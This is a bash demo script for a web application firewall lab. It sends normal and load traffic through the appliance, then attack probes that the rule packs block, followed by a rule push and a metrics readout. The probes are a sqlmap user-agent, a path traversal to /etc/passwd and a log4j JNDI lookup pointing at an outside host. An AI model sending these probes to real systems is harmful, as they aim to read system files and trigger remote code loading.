#!/usr/bin/env bash
# The README's first command: sets the machine up, builds, brings up the lab (client,
# appliance, origin in network namespaces), starts bulwark-control (with the shipped rule
# packs as version 1) and bulwark-dataplane between them, and shows traffic going
# through: curl over IPv4 and IPv6, a login that fails and one that works, a short wrk
# run; then it stops a scanner, a path traversal and a log4j probe, shows the events
# through bulwarkctl, pushes a new rule while traffic flows, and shows the appliance's
# status, workers and Prometheus metrics. Tears the lab down at the end unless --keep is
# given (then: LAB=demo tools/lab/lab.sh down).
set -euo pipefail
ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
cd "$ROOT"
KEEP=0
[[ ${1:-} == --keep ]] && KEEP=1
export LAB=demo
LABSH="$ROOT/tools/lab/lab.sh"

bash tools/setup.sh
ninja -C build >/dev/null
RUN=${LAB_RUN:-/run/bulwark-lab}/demo-files
mkdir -p "$RUN"
((KEEP)) || trap '"$LABSH" down; rm -rf "$RUN"' EXIT
"$LABSH" up
packs=()
for f in rules/packs/*.yaml; do packs+=(--initial-rules "$f"); done
"$LABSH" start-control "${packs[@]}"
"$LABSH" start-dataplane --main-core 0 --workers 1
CTL="build/control/bulwarkctl --socket ${LAB_RUN:-/run/bulwark-lab}/demo/control.sock"
for ((i = 0; i < 50; i++)); do $CTL status 2>/dev/null | grep -q "^rules .*version 1," && break; sleep 0.1; done

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
client() { "$LABSH" client "$@"; }
say "curl http://198.18.0.2/api/v1/customers/42 (IPv4, through the appliance)"
client curl -sS -m 5 http://198.18.0.2/api/v1/customers/42; echo
say "curl http://[2001:2::2]/health (IPv6)"
client curl -sS -m 5 'http://[2001:2::2]/health'; echo
say "POST /login with a wrong password, then the right one"
client curl -sS -m 5 -o /dev/null -w 'status %{http_code}\n' -H 'Content-Type: application/json' \
  -d '{"username":"alice","password":"guess"}' http://198.18.0.2/login
client curl -sS -m 5 -o /dev/null -w 'status %{http_code}\n' -H 'Content-Type: application/json' \
  -d '{"username":"alice","password":"wonderland"}' http://198.18.0.2/login
say "wrk -t1 -c8 -d5s through the appliance"
client wrk -t1 -c8 -d5s http://198.18.0.2/api/v1/customers/1 | sed -n '/requests in/,/Transfer/p'
say "attacks, stopped inline (rule packs in rules/packs/)"
attempt() {  # attempt LABEL CURL-ARGS...: reports the status, or that the connection was cut
  local code
  if code=$(client curl -sS -m 5 -o /dev/null -w '%{http_code}' "${@:2}" 2>/dev/null); then
    echo "$1: HTTP $code"
  else
    echo "$1: connection reset by the appliance (blocked)"
  fi
}
attempt "sqlmap user-agent" -A 'sqlmap/1.7.11#stable' 'http://198.18.0.2/api/v1/customers?id=1'
attempt "percent-encoded path traversal" --path-as-is 'http://198.18.0.2/static/%2e%2e/%2e%2e/etc/passwd'
attempt "log4j lookup in a header" -A 'Mozilla/5.0' -H 'X-Api-Version: ${jndi:ldap://x.oast.fun/a}' http://198.18.0.2/
attempt "the same client, clean request" -A 'Mozilla/5.0' http://198.18.0.2/api/v1/products/3
sleep 0.3
say "the appliance's events (bulwarkctl events -n 8)"
$CTL events -n 8
say "a new rule while traffic flows (bulwarkctl rules load --add)"
cat >"$RUN/demo.yaml" <<'YAML'
rules:
  - id: 990001
    name: demo - deny order export
    action: respond
    respond: {status: 403, body: "exports are disabled\n"}
    match: {field: path, prefix: /api/v1/orders/export}
YAML
client wrk -t1 -c8 -d4s http://198.18.0.2/api/v1/products/1 >"$RUN/wrk.out" &
sleep 1
$CTL rules load --add "$RUN/demo.yaml" --comment "demo: deny exports"
attempt "GET /api/v1/orders/export" http://198.18.0.2/api/v1/orders/export
wait
sed -n '/requests in/p;/Socket errors/p' "$RUN/wrk.out"
say "bulwarkctl status / workers / config versions"
$CTL status
$CTL workers
$CTL config versions
say "Prometheus metrics (curl http://198.18.1.1:9108/metrics, in the appliance namespace)"
"$LABSH" appl curl -s http://198.18.1.1:9108/metrics |
  grep -E '^bulwark_(info|http_request_verdicts_total|rule_hits_total|rules_bundle_version|flows_active|worker_busy_ratio)' | head -20
if ((KEEP)); then
  echo; echo "lab left up: $CTL status; LAB=demo tools/lab/lab.sh client curl http://198.18.0.2/ ; LAB=demo tools/lab/lab.sh down"
fi
